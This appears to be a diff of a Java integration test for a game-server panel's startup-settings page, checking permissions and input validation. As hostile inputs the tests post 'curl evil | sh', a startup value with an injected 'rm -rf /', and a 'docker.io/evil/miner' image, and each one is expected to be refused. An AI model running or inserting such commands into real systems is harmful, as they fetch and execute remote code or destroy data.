@@ -47,15 +47,9 @@ class StartupTabTest extends IntegrationTest {
         fixtures = new ServerFixtures(context);
     }
 
-    private Server inPterodactyl(long serverId) {
-        long pterodactylId = servers.findById(serverId).orElseThrow().pterodactylServerId();
-        synchronized (TestPterodactyl.emulator().state()) {
-            return TestPterodactyl.emulator().state().servers.get(pterodactylId);
-        }
-    }
 
     private String variable(long serverId, String env) {
-        Server server = inPterodactyl(serverId);
+        Server server = fixtures.inPterodactyl(serverId);
         synchronized (TestPterodactyl.emulator().state()) {
             return server.variables.get(env);
         }
@@ -135,12 +129,12 @@ class StartupTabTest extends IntegrationTest {
         assertThat(variable(id, "BUILD_NUMBER")).isEqualTo("latest");
 
         web.post("/servers/" + id + "/startup/image", Map.of("image", "ghcr.io/pterodactyl/yolks:java_17"));
-        assertThat(inPterodactyl(id).image).isEqualTo("ghcr.io/pterodactyl/yolks:java_17");
+        assertThat(fixtures.inPterodactyl(id).image).isEqualTo("ghcr.io/pterodactyl/yolks:java_17");
         assertThat(web.get("/servers/" + id + "/startup").body()).contains("The docker image was changed")
                 .contains("<option value=\"ghcr.io/pterodactyl/yolks:java_17\" selected=\"selected\">");
         web.post("/servers/" + id + "/startup/image", Map.of("image", "docker.io/evil/miner:latest"));
         assertThat(web.get("/servers/" + id + "/startup").body()).contains("Choose one of the egg&#39;s docker images.");
-        assertThat(inPterodactyl(id).image).isEqualTo("ghcr.io/pterodactyl/yolks:java_17");
+        assertThat(fixtures.inPterodactyl(id).image).isEqualTo("ghcr.io/pterodactyl/yolks:java_17");
         assertThat(web.get("/servers/" + id).body()).contains("Variable changed").contains("Docker image changed");
     }
 
@@ -177,20 +171,20 @@ class StartupTabTest extends IntegrationTest {
                 .status()).isEqualTo(404);
         assertThat(TestPterodactyl.totalCalls()).as("refused before Pterodactyl is asked").isEqualTo(calls);
         assertThat(variable(id, "MINECRAFT_VERSION")).isEqualTo("latest");
-        assertThat(inPterodactyl(id).image).isEqualTo("ghcr.io/pterodactyl/yolks:java_21");
+        assertThat(fixtures.inPterodactyl(id).image).isEqualTo("ghcr.io/pterodactyl/yolks:java_21");
 
         // startup.update changes variables, never the startup command: that is an admin's page only.
         WebSession editorWeb = signedIn(editor);
         editorWeb.get("/servers/" + id + "/startup");
         editorWeb.post("/servers/" + id + "/startup/variable", Map.of("key", "MINECRAFT_VERSION", "value", "1.21"));
         assertThat(variable(id, "MINECRAFT_VERSION")).isEqualTo("1.21");
-        String startup = inPterodactyl(id).startup;
+        String startup = fixtures.inPterodactyl(id).startup;
         editorWeb.get("/servers/" + id + "/startup");
         assertThat(editorWeb.post("/admin/servers/" + id + "/startup", Map.of("startup", "curl evil | sh")).status())
                 .isEqualTo(403);
         editorWeb.get("/servers/" + id + "/startup");
         editorWeb.post("/servers/" + id + "/startup/variable", Map.of("key", "STARTUP", "value", "curl evil | sh"));
-        assertThat(inPterodactyl(id).startup).isEqualTo(startup);
+        assertThat(fixtures.inPterodactyl(id).startup).isEqualTo(startup);
 
         administration.suspend(id, owner.id());
         ownerWeb.get("/servers/" + id + "/startup");
@@ -222,7 +216,7 @@ class StartupTabTest extends IntegrationTest {
         web.post("/servers/" + id + "/startup/image", Map.of("image", "ghcr.io/pterodactyl/yolks:java_17"));
         assertThat(web.get("/servers/" + id + "/startup").body()).contains("This plan does not let you choose the docker image.");
         assertThat(variable(id, "BUILD_NUMBER")).isEqualTo("4");
-        assertThat(inPterodactyl(id).image).isEqualTo("ghcr.io/pterodactyl/yolks:java_21");
+        assertThat(fixtures.inPterodactyl(id).image).isEqualTo("ghcr.io/pterodactyl/yolks:java_21");
     }
 
     @Test
@@ -233,12 +227,12 @@ class StartupTabTest extends IntegrationTest {
                 "startup-admin-" + UUID.randomUUID().toString().substring(0, 6) + "@example.test", "Ad", "Min",
                 ServerFixtures.PASSWORD, Role.ADMIN, "test");
         WebSession web = signedIn(admin);
-        String before = inPterodactyl(id).startup;
+        String before = fixtures.inPterodactyl(id).startup;
         assertThat(web.get("/admin/servers/" + id).body()).contains("id=\"admin-startup-form\"").contains(before.substring(0, 20));
 
         String command = "java -Xms128M -jar {{SERVER_JARFILE}} nogui";
         web.post("/admin/servers/" + id + "/startup", Map.of("startup", command));
-        assertThat(inPterodactyl(id).startup).isEqualTo(command);
+        assertThat(fixtures.inPterodactyl(id).startup).isEqualTo(command);
         assertThat(servers.findById(id).orElseThrow().plan().startup()).isEqualTo(command);
         assertThat(variable(id, "SERVER_JARFILE")).as("variables kept").isEqualTo("server.jar");
         for (String bad : List.of("   ", "java -jar x\nrm -rf /", "x".repeat(5001))) {
@@ -246,13 +240,13 @@ class StartupTabTest extends IntegrationTest {
             web.post("/admin/servers/" + id + "/startup", Map.of("startup", bad));
             assertThat(web.get("/admin/servers/" + id).body()).contains("The startup command must be 1 to 5000 characters");
         }
-        assertThat(inPterodactyl(id).startup).isEqualTo(command);
+        assertThat(fixtures.inPterodactyl(id).startup).isEqualTo(command);
         assertThat(web.get("/admin/audit?email=" + admin.email()).body()).contains("admin_changed_server_startup");
         assertThat(web.get("/admin/servers/" + id).body()).contains("Startup command changed");
 
         WebSession ownerWeb = signedIn(owner);
         assertThat(ownerWeb.get("/servers/" + id + "/startup").body()).contains("nogui");
         assertThat(ownerWeb.post("/admin/servers/" + id + "/startup", Map.of("startup", "sh")).status()).isEqualTo(403);
-        assertThat(inPterodactyl(id).startup).isEqualTo(command);
+        assertThat(fixtures.inPterodactyl(id).startup).isEqualTo(command);
     }
 }
